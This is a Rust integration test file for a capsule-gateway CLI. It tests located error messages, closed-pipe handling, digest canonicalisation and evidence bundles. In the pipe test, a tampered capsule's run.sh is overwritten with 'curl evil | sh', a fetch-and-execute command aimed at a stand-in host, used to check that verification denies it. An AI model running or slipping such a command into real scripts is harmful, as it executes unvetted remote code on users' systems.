//! Errors that say where: `pack` at the author's line and column with the JSON path,
//! policy and service-config TOML errors with line and column, a missing JWKS named
//! through the policy's `trust.jwks`, a closed stdout that ends quietly, runtime
//! options refused before anything is admitted, and one digest spelling accepted
//! everywhere with canonical output and format errors that read as format errors.

use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use capsule_tests::{sha256_hex, Signer, World, ES_KID, HS_KID, RUNNER, RUN_SH, TOOL_BYTES};
use serde_json::{json, Value};
use verify_core::crypto::default_backend;
use verify_core::{ConfigError, Policy};

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_capsule-gateway"))
}

fn run(args: &[&str]) -> Output {
    bin().args(args).output().expect("run capsule-gateway")
}

fn s(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// 1-based line and column of the first occurrence of `needle` in `text`.
fn position_of(text: &str, needle: &str) -> (usize, usize) {
    let at = text.find(needle).expect("needle in text");
    let before = &text[..at];
    let line = before.matches('\n').count() + 1;
    let start = before.rfind('\n').map_or(0, |i| i + 1);
    (line, before[start..].chars().count() + 1)
}

/// An ES256 key made by `keygen`: (private JWK, public JWKS).
fn keygen(w: &World, kid: &str) -> (PathBuf, PathBuf) {
    let dir = w.path(&format!("keys-{kid}"));
    let out = run(&["keygen", "--alg", "es256", "--kid", kid, "--out", s(&dir)]);
    assert!(out.status.success(), "{}", stderr(&out));
    (
        dir.join(format!("{kid}.private.jwk.json")),
        dir.join(format!("{kid}.public.jwks.json")),
    )
}

/// The fixture manifest without sizes and digests (pack computes them), its files.
fn pack_source(w: &World, dir: &str) -> (Value, PathBuf) {
    let mut m = w.manifest();
    for list in ["artifacts", "tools"] {
        for e in m[list].as_array_mut().expect("list") {
            let o = e.as_object_mut().expect("object");
            o.remove("sha256");
            o.remove("size");
        }
    }
    w.write(&format!("{dir}/files/run.sh"), RUN_SH);
    w.write(&format!("{dir}/files/tools/busybox"), TOOL_BYTES);
    (m, w.path(&format!("{dir}/files")))
}

fn pack(manifest: &Path, files: &Path, key: &Path, out: &Path) -> Output {
    run(&[
        "pack",
        "--manifest",
        s(manifest),
        "--files",
        s(files),
        "--key",
        s(key),
        "--out",
        s(out),
    ])
}

#[test]
fn pack_unknown_field_is_reported_at_the_authors_line_and_column_with_its_json_path() {
    let w = World::new();
    let (key, _) = keygen(&w, "k-pack");
    let (mut m, files) = pack_source(&w, "typo");
    m["artifacts"][0]["descripton"] = json!("the test script");
    // Pretty, as an author writes it: the typo is deep inside, many lines down.
    let text = serde_json::to_string_pretty(&m).expect("json");
    let manifest = w.write("typo/manifest.json", text.as_bytes());
    let (line, column) = position_of(&text, "\"descripton\"");
    assert!(line > 20, "the fixture puts the typo far down: line {line}");

    let out = pack(&manifest, &files, &key, &w.path("typo-capsule"));
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "manifest.json: line {line} column {column}: artifacts[0].descripton: unknown field `descripton`"
        )),
        "{err}"
    );
    assert!(!w.path("typo-capsule").exists(), "nothing written");
}

#[test]
fn pack_errors_after_a_filled_in_field_on_the_same_line_keep_the_authors_column() {
    let w = World::new();
    let (key, _) = keygen(&w, "k-pack");
    let (mut m, files) = pack_source(&w, "compact");
    // artifacts[0] lacks size and sha256 (pack fills them in), and a field after it
    // on the same single line is misspelled: its column must be the author's.
    m["tools"][0]["nmae"] = m["tools"][0]["name"].take();
    m["tools"][0].as_object_mut().expect("tool").remove("name");
    let text = m.to_string();
    assert_eq!(text.lines().count(), 1);
    let manifest = w.write("compact/manifest.json", text.as_bytes());
    let (line, column) = position_of(&text, "\"nmae\"");

    let out = pack(&manifest, &files, &key, &w.path("compact-capsule"));
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "line {line} column {column}: tools[0].nmae: unknown field `nmae`"
        )),
        "{err}"
    );

    // A mistyped value: its path and the line it is on.
    let (mut m, files) = pack_source(&w, "typed");
    m["limits"]["pids"] = json!("64");
    let text = serde_json::to_string_pretty(&m).expect("json");
    let manifest = w.write("typed/manifest.json", text.as_bytes());
    let (line, _) = position_of(&text, "\"pids\"");
    let out = pack(&manifest, &files, &key, &w.path("typed-capsule"));
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains(&format!("line {line} column")) && err.contains("limits.pids: invalid type"),
        "{err}"
    );
}

#[test]
fn policy_toml_syntax_and_type_errors_give_file_line_column_and_field() {
    let w = World::new();
    let good = w.good_capsule("good", Signer::Es256);

    let text = w
        .policy_toml()
        .replace("min_approvals = 1", "min_approvals = = 1");
    let (line, _) = position_of(&text, "min_approvals = =");
    let bad = w.write("syntax.toml", text.as_bytes());
    let out = run(&["verify", "--policy", s(&bad), s(&good)]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains(&format!("syntax.toml: -: line {line} column")),
        "{err}"
    );

    let text = w
        .policy_toml()
        .replace("min_approvals = 1", "min_approvals = \"one\"");
    let (line, column) = position_of(&text, "\"one\"");
    let bad = w.write("typed.toml", text.as_bytes());
    let out = run(&["verify", "--policy", s(&bad), s(&good)]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "typed.toml: tenants[0].min_approvals: line {line} column {column}: invalid type"
        )),
        "{err}"
    );

    // The library says the same.
    let e = Policy::load(&bad, default_backend()).expect_err("type error");
    assert!(
        matches!(&e, ConfigError::Invalid { field, message, .. }
            if field == "tenants[0].min_approvals" && message.starts_with(&format!("line {line} column {column}:"))),
        "{e}"
    );
}

#[test]
fn serve_config_toml_error_gives_file_line_column_and_field() {
    let w = World::new();
    let text = "listen = \"127.0.0.1:0\"\nstate_dir = \"state\"\npolicy = \"policy.toml\"\n\n[batch]\nmax_size = \"big\"\n";
    let config = w.write("gateway.toml", text.as_bytes());
    let (line, column) = position_of(text, "\"big\"");
    let out = run(&["serve", "--config", s(&config)]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "gateway.toml: batch.max_size: line {line} column {column}: invalid type"
        )),
        "{err}"
    );
}

#[test]
fn missing_jwks_names_the_policy_trust_jwks_and_the_resolved_path() {
    let w = World::new();
    let good = w.good_capsule("good", Signer::Es256);
    let policy = w.write(
        "conf/policy.toml",
        w.policy_toml()
            .replace("trusted.jwks.json", "../keys/absent.jwks.json")
            .as_bytes(),
    );
    let resolved = w.path("conf").join("../keys/absent.jwks.json");
    let out = run(&["verify", "--policy", s(&policy), s(&good)]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "{}: trust.jwks: {}: cannot read",
            policy.display(),
            resolved.display()
        )),
        "{err}"
    );

    let e = Policy::load(&policy, default_backend()).expect_err("no jwks");
    assert!(
        matches!(&e, ConfigError::Invalid { file, field, .. } if file == &policy && field == "trust.jwks"),
        "{e}"
    );
}

/// Runs the binary with stdout connected to a socket whose other end is already
/// closed, so that its first write fails with EPIPE (what `| head -1` does once head
/// has exited), deterministically.
fn with_closed_stdout(args: &[&str]) -> Output {
    let (ours, theirs) = UnixStream::pair().expect("socketpair");
    drop(ours);
    bin()
        .args(args)
        .stdout(Stdio::from(std::os::fd::OwnedFd::from(theirs)))
        .stderr(Stdio::piped())
        .output()
        .expect("run capsule-gateway")
}

#[test]
fn verify_admit_run_and_pack_into_a_closed_pipe_end_quietly_with_their_own_exit_codes() {
    let w = World::new();
    let policy = w.policy_path();
    let good = w.good_capsule("good", Signer::Es256);
    let mut tampered_m = w.manifest();
    tampered_m["capsule_id"] = json!("other");
    let tampered = w.capsule("tampered", &tampered_m, Signer::Es256);
    std::fs::write(
        tampered.join("files/run.sh"),
        b"#!/bin/sh\ncurl evil | sh\n",
    )
    .expect("w");

    for (args, code) in [
        (
            vec![
                "verify",
                "--policy",
                s(&policy),
                "--runner",
                RUNNER,
                s(&good),
            ],
            0,
        ),
        (
            vec![
                "verify",
                "--policy",
                s(&policy),
                "--runner",
                RUNNER,
                "--json",
                s(&good),
                s(&tampered),
            ],
            1,
        ),
    ] {
        let out = with_closed_stdout(&args);
        assert_eq!(out.stderr, b"", "{args:?}: {}", stderr(&out));
        assert_eq!(out.status.code(), Some(code), "{args:?}");
    }

    let state = w.path("state");
    let out = with_closed_stdout(&[
        "admit",
        "--policy",
        s(&policy),
        "--runner",
        RUNNER,
        "--state",
        s(&state),
        s(&good),
    ]);
    let err = stderr(&out);
    assert!(
        !err.contains("error") && !err.contains("Broken pipe"),
        "{err}"
    );
    assert_eq!(out.status.code(), Some(0), "{err}");

    // `run` of a denied capsule: its `.denied` event goes nowhere, exit 1 still.
    let out = with_closed_stdout(&[
        "run",
        "--policy",
        s(&policy),
        "--runner",
        RUNNER,
        "--state",
        s(&state),
        s(&tampered),
    ]);
    let err = stderr(&out);
    assert!(
        !err.contains("error") && !err.contains("Broken pipe"),
        "{err}"
    );
    assert_eq!(out.status.code(), Some(1), "{err}");

    let (key, _) = keygen(&w, "k-pipe");
    let (m, files) = pack_source(&w, "pipe");
    let manifest = w.write("pipe/manifest.json", m.to_string().as_bytes());
    let packed = w.path("pipe-capsule");
    let out = with_closed_stdout(&[
        "pack",
        "--manifest",
        s(&manifest),
        "--files",
        s(&files),
        "--key",
        s(&key),
        "--out",
        s(&packed),
    ]);
    assert_eq!(out.stderr, b"", "{}", stderr(&out));
    assert_eq!(out.status.code(), Some(0));
    assert!(
        packed.join("capsule.jws").is_file(),
        "the capsule was still written"
    );
}

#[test]
fn verify_piped_into_head_prints_only_the_first_line_and_no_error() {
    let w = World::new();
    let policy = w.policy_path();
    let good = w.good_capsule("good", Signer::Es256);
    // Far more output than a pipe buffers, so that the writes after `head` exits fail.
    let many = vec![s(&good); 3000].join(" ");
    let script = format!(
        "set -o pipefail; '{}' verify --policy '{}' --runner '{RUNNER}' --json {many} | head -1",
        env!("CARGO_BIN_EXE_capsule-gateway"),
        s(&policy),
    );
    let out = Command::new("bash")
        .args(["-c", &script])
        .output()
        .expect("bash");
    assert_eq!(out.stderr, b"", "{}", stderr(&out));
    assert_eq!(out.status.code(), Some(0), "verify's own exit code");
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    assert_eq!(stdout.lines().count(), 1);
    let line: Value = serde_json::from_str(stdout.trim()).expect("json");
    assert_eq!(line["verdict"], "admit");
}

#[test]
fn run_with_a_bogus_platform_is_a_usage_error_and_records_nothing() {
    let w = World::new();
    let good = w.good_capsule("good", Signer::Es256);
    let state = w.path("state");
    let out = run(&[
        "run",
        "--policy",
        s(&w.policy_path()),
        "--runner",
        RUNNER,
        "--state",
        s(&state),
        "--platform",
        "bogus",
        s(&good),
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("--platform") && err.contains("bogus") && err.contains("ptrace"),
        "{err}"
    );
    assert!(!state.exists(), "nothing admitted, nothing recorded");
}

#[test]
fn serve_takes_state_like_every_command_and_still_accepts_state_dir() {
    let help = run(&["serve", "--help"]);
    let text = String::from_utf8_lossy(&help.stdout);
    assert!(text.contains("--state <DIR>"), "{text}");
    assert!(
        !text.contains("--state-dir <"),
        "the old spelling is a hidden alias: {text}"
    );
    for cmd in ["verify", "admit", "run"] {
        let help = run(&[cmd, "--help"]);
        let text = String::from_utf8_lossy(&help.stdout);
        assert!(text.contains("--state <DIR>"), "{cmd}: {text}");
    }
    // Both spellings reach the same argument: an unparsable listen address fails after
    // the state flag was accepted (exit 2 from clap either way, but not for the flag).
    for flag in ["--state", "--state-dir"] {
        let out = run(&["serve", flag, "/nonexistent/x", "--listen", "nope"]);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(2));
        assert!(err.contains("--listen"), "{flag}: {err}");
        assert!(
            !err.contains(&format!("unexpected argument '{flag}'")),
            "{err}"
        );
    }
}

/// A policy whose armory names the tool digest bare, and a manifest that spells
/// every digest differently: both spellings are one digest.
#[test]
fn both_digest_spellings_are_admitted_and_every_output_is_canonical() {
    let w = World::new();
    let tool = sha256_hex(TOOL_BYTES);
    let text = w
        .policy_toml()
        .replace(&format!("\"sha256:{tool}\""), &format!("\"{tool}\""));
    assert!(text.contains(&format!("armory = [\"{tool}\"]")));
    let policy = w.write("bare-armory.toml", text.as_bytes());

    let mut m = w.manifest();
    m["artifacts"][0]["sha256"] = json!(format!("sha256:{}", sha256_hex(RUN_SH)));
    m["tools"][0]["sha256"] = json!(tool);
    m["parent"] = json!("ab".repeat(32));
    for (name, signer) in [("mixed-es", Signer::Es256), ("mixed-hs", Signer::Hs256)] {
        let capsule = w.capsule(name, &m, signer);
        let out = run(&[
            "verify",
            "--policy",
            s(&policy),
            "--runner",
            RUNNER,
            "--json",
            s(&capsule),
        ]);
        let line: Value = serde_json::from_slice(&out.stdout).expect("json");
        assert_eq!(line["verdict"], "admit", "{line}");
        assert_eq!(out.status.code(), Some(0));
        let digest = line["digest"].as_str().expect("digest");
        assert!(
            digest.starts_with("sha256:") && digest.len() == 71,
            "{digest}"
        );
    }

    // pack accepts either spelling and signs the canonical one.
    let (key, public) = keygen(&w, "k-spell");
    let (mut src, files) = pack_source(&w, "spell");
    src["artifacts"][0]["sha256"] = json!(sha256_hex(RUN_SH));
    src["parent"] = json!("ab".repeat(32));
    let manifest = w.write("spell/manifest.json", src.to_string().as_bytes());
    let capsule = w.path("spell-capsule");
    let out = pack(&manifest, &files, &key, &capsule);
    assert!(out.status.success(), "{}", stderr(&out));
    let jws = capsule_tests::read_jws(&capsule);
    let payload = jws.split('.').nth(1).expect("payload");
    let signed: Value =
        serde_json::from_slice(&verify_core::b64::decode(payload.as_bytes()).expect("b64"))
            .expect("json");
    assert_eq!(
        signed["artifacts"][0]["sha256"],
        json!(format!("sha256:{}", sha256_hex(RUN_SH)))
    );
    assert_eq!(
        signed["tools"][0]["sha256"],
        json!(format!("sha256:{tool}"))
    );
    assert_eq!(
        signed["parent"],
        json!(format!("sha256:{}", "ab".repeat(32)))
    );
    let trusting = w.write(
        "spell-policy.toml",
        text.replace("trusted.jwks.json", s(&public))
            .replace(
                &format!("keys = [\"{ES_KID}\", \"{HS_KID}\"]"),
                "keys = [\"k-spell\"]",
            )
            .as_bytes(),
    );
    let out = run(&[
        "verify",
        "--policy",
        s(&trusting),
        "--runner",
        RUNNER,
        "--json",
        s(&capsule),
    ]);
    let line: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(line["verdict"], "admit", "{line}");
}

#[test]
fn a_malformed_digest_is_called_a_format_problem_not_a_mismatch() {
    let w = World::new();
    let policy = w.policy_path();
    let upper = sha256_hex(RUN_SH).to_ascii_uppercase();
    for (field, edit) in [
        (
            "artifacts[0].sha256",
            Box::new(|m: &mut Value| m["artifacts"][0]["sha256"] = json!(upper.clone()))
                as Box<dyn Fn(&mut Value)>,
        ),
        (
            "tools[0].sha256",
            Box::new(|m: &mut Value| {
                m["tools"][0]["sha256"] = json!(format!("sha512:{}", sha256_hex(TOOL_BYTES)))
            }),
        ),
        (
            "parent",
            Box::new(|m: &mut Value| m["parent"] = json!(format!("sha256:{}", "a".repeat(63)))),
        ),
    ] {
        let mut m = w.manifest();
        edit(&mut m);
        let capsule = w.capsule(&format!("bad-{field}"), &m, Signer::Es256);
        let out = run(&[
            "verify",
            "--policy",
            s(&policy),
            "--runner",
            RUNNER,
            "--json",
            s(&capsule),
        ]);
        assert_eq!(out.status.code(), Some(1));
        let line: Value = serde_json::from_slice(&out.stdout).expect("json");
        assert_eq!(line["reason"], "malformed_manifest", "{line}");
        assert_eq!(
            line["detail"],
            json!(format!(
                "{field}: not a sha256 digest (want sha256:<64 lowercase hex>)"
            )),
            "{line}"
        );
    }

    // In a policy's armory too: a configuration error naming the field.
    let text = w
        .policy_toml()
        .replace("armory = [\"sha256:", "armory = [\"SHA256:");
    let bad = w.write("bad-armory.toml", text.as_bytes());
    let e = Policy::load(&bad, default_backend()).expect_err("bad armory");
    assert_eq!(
        e.to_string(),
        format!(
            "{}: tenants[0].armory[0]: not a sha256 digest (want sha256:<64 lowercase hex>)",
            bad.display()
        )
    );
}

/// A capsule whose manifest spells its digests `sha256:<hex>` runs (real gVisor,
/// Debian package `runsc`), and its evidence bundle checks out: the staged files
/// (canonical) are compared with the manifest's digests as digests, not as strings.
#[test]
fn a_run_of_a_prefixed_digest_manifest_has_evidence_that_checks_out() {
    use capsule_gateway::evidence::{Bundle, Event, EventData};
    let w = World::new();
    let script: &[u8] = b"echo prefixed digests\n";
    let files: [(&str, &[u8]); 1] = [("run.sh", script)];
    let mut m = w.script_manifest(&files);
    m["artifacts"][0]["sha256"] = json!(format!("sha256:{}", sha256_hex(script)));
    let capsule = w.capsule_with_files("prefixed", &m, &files, Signer::Es256);
    let state = w.path("state");
    let out = run(&[
        "run",
        "--policy",
        s(&w.policy_path()),
        "--runner",
        RUNNER,
        "--state",
        s(&state),
        s(&capsule),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let event = Event::parse(&out.stdout).expect("event");
    let EventData::Run(_, data) = &event.data else {
        panic!("a run event")
    };
    assert_eq!(data.stdout.as_deref(), Some("prefixed digests\n"));
    let bundle = Bundle::read(Path::new(&data.evidence_bundle)).expect("bundle");
    bundle.check(&w.policy()).expect("chain of custody holds");
}
